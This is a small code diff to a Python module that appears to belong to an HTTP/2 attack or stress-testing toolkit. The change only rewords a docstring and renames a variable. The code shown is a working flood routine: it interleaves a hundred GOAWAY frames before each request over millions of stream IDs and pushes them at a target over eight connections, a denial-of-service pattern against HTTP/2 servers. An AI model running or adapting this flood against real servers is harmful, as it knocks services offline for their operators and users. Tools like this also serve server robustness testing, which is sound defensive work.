@@ -1,4 +1,4 @@
-"""GOAWAY frames one behind the other, between requests that go on."""
+"""GOAWAY frames, one after another, between requests in progress."""
 
 import frames
 from attack import Attack
@@ -7,11 +7,11 @@ ATTACK = Attack()
 
 
 async def run(target):
-    goodbye = frames.frame(frames.GOAWAY, payload=b"\0\0\0\0\0\0\0\0")
+    goaway = frames.frame(frames.GOAWAY, payload=b"\0\0\0\0\0\0\0\0")
     head = frames.head(b"/small")
 
     def batches():
         for stream in range(1, 1 << 24, 2):
-            yield goodbye * 100 + frames.request(stream, head)
+            yield goaway * 100 + frames.request(stream, head)
 
     return await target.flood(8, frames.opening(), batches)
